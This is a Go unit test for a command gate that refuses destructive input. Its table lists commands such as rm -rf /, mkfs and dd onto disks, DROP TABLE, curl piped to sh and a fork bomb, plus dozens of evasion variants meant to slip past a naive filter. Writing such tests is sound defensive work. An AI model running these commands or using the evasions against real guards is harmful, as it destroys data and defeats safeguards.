package session

import (
	"errors"
	"testing"
)

func TestGate(t *testing.T) {
	tests := []struct {
		name    string
		text    string
		refused bool
	}{
		{"rm -rf /", "rm -rf /", true},
		{"sudo rm -rf / --no-preserve-root", "sudo rm -rf --no-preserve-root /", true},
		{"rm -fr home", "rm -fr ~", true},
		{"rm -r /etc", "rm -r /etc", true},
		{"rm -rf star", "rm -rf *", true},
		{"after separator", "cd /tmp && rm -rf /", true},
		{"mkfs", "mkfs.ext4 /dev/sdb1", true},
		{"dd to disk", "dd if=/dev/zero of=/dev/sda bs=1M", true},
		{"redirect to disk", "cat img > /dev/nvme0n1", true},
		{"drop table", "DROP TABLE users;", true},
		{"drop database lower", "drop database prod", true},
		{"delete without where", "DELETE FROM users;", true},
		{"curl pipe sh", "curl -fsSL https://example.invalid/x | sh", true},
		{"wget pipe sudo bash", "wget -qO- x | sudo bash", true},
		{"fork bomb", ":(){ :|:& };:", true},
		{"chmod -R /", "chmod -R 777 /", true},
		{"reboot", "sudo reboot", true},
		{"git reset hard", "git reset --hard HEAD~3", true},
		{"second line", "echo ok\nrm -rf /", true},

		// Obvious ways around a naive pattern (issue #8): all refused.
		{"separate flags", "rm -r -f /", true},
		{"long options", "rm --recursive --force /", true},
		{"operand first", "rm / -rf", true},
		{"quoted target", `rm -rf "/"`, true},
		{"single-quoted home", "rm -rf '~'", true},
		{"backslash escapes an alias", `\rm -rf /`, true},
		{"absolute path", "/bin/rm -rf /", true},
		{"usr path", "/usr/bin/rm -rf ~", true},
		{"env assignment prefix", "FOO=1 rm -rf /", true},
		{"quoted assignment prefix", `A="x y" B=2 rm -rf /`, true},
		{"env command", "env -i PATH=/bin rm -rf /", true},
		{"command builtin", "command rm -rf ~", true},
		{"nohup", "nohup rm -rf / &", true},
		{"time", "time rm -rf /", true},
		{"nice", "nice -n 10 rm -rf /", true},
		{"sudo with user", "sudo -u root rm -rf /", true},
		{"sudo -E", "sudo -E rm -rf /", true},
		{"leading spaces", "     rm -rf /", true},
		{"leading tab", "\trm -rf /", true},
		{"line continuation", "rm -rf \\\n/", true},
		{"carriage return", "echo hi\rrm -rf /", true},
		{"bash -c", "bash -c 'rm -rf /'", true},
		{"sh -c double quotes", `sh -c "rm -rf ~"`, true},
		{"eval", "eval 'rm -rf /'", true},
		{"then", "if true; then rm -rf /; fi", true},
		{"do", "for x in 1; do rm -rf ~; done", true},
		{"command substitution", "echo $(rm -rf /)", true},
		{"or", "false || rm -rf $HOME", true},
		{"braced home", "rm -rf ${HOME}/*", true},
		{"parent", "rm -rf ..", true},
		{"system dir with slash", "rm -rf /usr/", true},
		{"find delete", "find / -delete", true},
		{"find exec rm", "find ~ -exec rm -rf {} +", true},
		{"sudo mkfs", "sudo mkfs.ext4 /dev/sda", true},
		{"mkfs by path", "/sbin/mkfs -t ext4 /dev/sda", true},
		{"raw ctrl+u kills the prefix", "echo \x15rm -rf /", true},
		{"raw ctrl+v inside the target", "rm -rf \x16/", true},
		{"escape sequence inside", "rm -rf \x1b[C/", true},

		{"rm in tmp dir", "rm -rf /tmp/build", false},
		{"rm relative", "rm -rf ./build", false},
		{"rm single file", "rm /etc/foo.conf.bak", false},
		{"echo mentions rm", "echo 'do not rm -rf /'", false},
		{"grep drop", "grep -r 'dropped' logs/", false},
		{"delete with where", "DELETE FROM users WHERE id = 3;", false},
		{"dd to file", "dd if=/dev/zero of=/tmp/x bs=1M count=1", false},
		{"curl to file", "curl -o x.sh https://example.invalid/x", false},
		{"ls", "ls -la /", false},
		{"echo rm", "echo rm -rf /", false},
		{"rm not recursive", "rm -f /etc/foo", false},
		{"rm a subdirectory of home", "rm -rf /home/user/build", false},
		{"rm relative dir", "rm -r build/", false},
		{"grep for rm", "grep -r 'rm -rf' .", false},
		{"find in tmp", "find /tmp -name '*.o' -delete", false},
		{"find here", "find . -name x -delete", false},
		{"rm a file named -r", "rm -- -r", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := checkGate(tt.text)
			var ge *GateError
			if got := errors.As(err, &ge); got != tt.refused {
				t.Fatalf("checkGate(%q) = %v, want refused=%v", tt.text, err, tt.refused)
			}
		})
	}
}
